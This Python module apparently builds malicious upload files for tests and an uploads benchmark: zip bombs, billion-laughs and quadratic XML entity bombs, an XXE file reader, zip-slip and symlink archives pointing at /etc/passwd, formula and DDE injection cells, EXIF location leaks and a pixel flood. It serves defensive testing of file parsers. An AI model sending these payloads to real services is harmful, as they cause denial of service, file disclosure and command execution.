"""Files made to hurt whoever reads them, for tests and for `benchmarks/trust/uploads.py`."""

import io
import struct
import zipfile
from collections.abc import Iterable, Sequence

import xlsxwriter
from PIL import Image

CONTENT_TYPES = """<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Override PartName="/xl/workbook.xml"
 ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml"
 ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"""
RELATIONS = """<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"/>
</Relationships>"""
WORKBOOK = """<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>
<sheet name="1" sheetId="1" r:id="rId1"/></sheets></workbook>"""
SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)
LAUGHS = "".join(
    f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' if level else '<!ENTITY l0 "ja">' for level in range(10)
)


def make_workbook(rows: Iterable[Sequence[object]], **options: object) -> bytes:
    """Return an ordinary workbook; strings that begin with = become formulas, as in a spreadsheet."""
    content = io.BytesIO()
    with xlsxwriter.Workbook(content, {"in_memory": True, **options}) as book:
        sheet = book.add_worksheet()
        for number, row in enumerate(rows):
            sheet.write_row(number, 0, row)
    return content.getvalue()


def make_parts(sheet: bytes | str = SHEET.format(""), **others: bytes | str) -> dict[str, bytes | str]:
    """Return the parts of a small workbook by hand; `others` by the stem of their names."""
    return {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELATIONS.format(kind="officeDocument", target="xl/workbook.xml"),
        "xl/_rels/workbook.xml.rels": RELATIONS.format(kind="worksheet", target="worksheets/sheet1.xml"),
        "xl/workbook.xml": WORKBOOK,
        "xl/worksheets/sheet1.xml": sheet,
        **{f"xl/{stem}.xml": content for stem, content in others.items()},
    }


def pack(parts: dict[str, bytes | str], extra: Iterable[tuple[zipfile.ZipInfo | str, bytes]] = ()) -> bytes:
    """Return an archive of parts, and of extra ones whose names need not be unique or sane."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
        for info, part in extra:
            archive.writestr(info, part)
    return content.getvalue()


def make_cells(rows: int, columns: int = 4) -> str:
    """Return the XML of a sheet full of numbers."""
    row = "<row>" + "<c><v>1</v></c>" * columns + "</row>"
    return SHEET.format(row * rows)


def bomb_of_spaces(megabytes: int = 400) -> bytes:
    """A sheet of nothing, a thousand times larger than its archive."""
    return pack(make_parts(SHEET.format(" " * megabytes * 2**20)))


def bomb_of_rows() -> bytes:
    """A file of ordinary ratio with a million small cells; a naive reader needs many seconds and much memory."""
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{n * 7919 % 99991}</t></is></c></row>' for n in
                    range(1, 250_000))  # fmt: skip
    return pack(make_parts(SHEET.format(cells)))


def bomb_of_parts(count: int = 400) -> bytes:
    """An archive of very many parts."""
    return pack(make_parts(), [(f"xl/worksheets/sheet{n}.xml", b"<worksheet/>") for n in range(2, count)])


def bomb_that_lies(megabytes: int = 200) -> bytes:
    """A bomb of spaces whose directory declares a few bytes only."""
    honest = bomb_of_spaces(megabytes)
    real = struct.pack("<I", len(SHEET.format(" " * megabytes * 2**20).encode()))
    assert honest.count(real) >= 2, "its size stands in the local header and in the directory"
    return honest.replace(real, struct.pack("<I", 400))


def bomb_of_overlaps(copies: int = 150) -> bytes:
    """Many entries of the directory that all point to one compressed part (Fifield, a better zip bomb)."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in make_parts(SHEET.format(" " * 2**20)).items():
            archive.writestr(name, part)
        kernel = archive.getinfo("xl/worksheets/sheet1.xml")
        for number in range(copies):
            again = zipfile.ZipInfo(f"xl/worksheets/sheet{number + 2}.xml")
            for name in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(again, name, getattr(kernel, name))
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
    return content.getvalue()


def bomb_of_strings(megabytes: int = 60) -> bytes:
    """Shared strings far larger than the sheet."""
    return pack(make_parts(make_cells(10), sharedStrings="<sst>" + "<si><t>x</t></si>" * (megabytes * 2**20 // 17)))


def entity_bomb(where: str = "sheet") -> bytes:
    """The billion laughs, in the sheet, in the shared strings or in the list of sheets."""
    declared = f'<?xml version="1.0"?><!DOCTYPE lolz [{LAUGHS}]>'
    laughing = declared + SHEET.format('<row><c t="inlineStr"><is><t>&l9;</t></is></c></row>')
    if where == "sheet":
        return pack(make_parts(laughing))
    return pack({**make_parts(make_cells(3)), f"xl/{where}.xml": laughing})


def quadratic_bomb() -> bytes:
    """One long entity named very often."""
    declared = f'<!DOCTYPE x [<!ENTITY a "{"a" * 60_000}">]>'
    return pack(
        make_parts(declared + SHEET.format(f'<row><c t="inlineStr"><is><t>{"&a;" * 60_000}</t></is></c></row>'))
    )


def external_entity(address: str) -> bytes:
    """A sheet that has its reader open an address or a file."""
    declared = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]>'
    return pack(make_parts(declared + SHEET.format('<row><c t="inlineStr"><is><t>&e;</t></is></c></row>' * 2)))


def zip_slip(name: str = "../../../../tmp/puente-was-here.xml") -> bytes:
    """A workbook with a part that unpacks outside of itself."""
    info = zipfile.ZipInfo(name)
    info.filename = name
    return pack(make_parts(make_cells(3)), [(info, b"<x/>")])


def symbolic_link(target: bytes = b"/etc/passwd") -> bytes:
    """A workbook one part of which is a link to a file of the server."""
    info = zipfile.ZipInfo("xl/worksheets/sheet2.xml")
    info.external_attr = 0xA1FF << 16
    return pack(make_parts(make_cells(3)), [(info, target)])


def repeated_name() -> bytes:
    """Two parts of one name, of which readers see different ones."""
    return pack(make_parts(make_cells(3)), [("xl/worksheets/Sheet1.xml", make_cells(9).encode())])


def formula_sheet(formula: str = '=HYPERLINK("http://127.0.0.1/"&A1,"x")') -> bytes:
    """A list one cell of which is a formula."""
    return make_workbook([["Nombre", "Apellido"], ["Ana", formula]])


def formula_csv(cell: str = "=cmd|' /C calc'!A0") -> bytes:
    """The same as CSV."""
    return f"Nombre,Apellido\nAna,{cell}\n".encode()


def photo(width: int = 320, height: int = 240, form: str = "JPEG", with_place: bool = True) -> bytes:
    """A picture of two colours; `with_place` writes where, when and with what it was taken."""
    image = Image.new("RGB", (width, height), (30, 90, 160))
    image.paste((220, 160, 40), (0, 0, width // 2, height))
    exif = Image.Exif()
    if with_place:
        exif[0x010F], exif[0x0131], exif[0x013B] = "PUENTE-CAMERA", "PUENTE-SOFTWARE", "PUENTE-OWNER"
        exif[0x8825] = {1: "N", 2: (31.0, 44.0, 52.0), 3: "W", 4: (106.0, 29.0, 6.0), 29: "2026:11:23"}
    content = io.BytesIO()
    image.save(content, form, exif=exif)
    return content.getvalue()


def pixel_flood(side: int = 30_000) -> bytes:
    """A picture of some kilobytes that unpacks into gigabytes."""
    content = io.BytesIO()
    Image.new("1", (side, side)).save(content, "PNG", optimize=False)
    return content.getvalue()
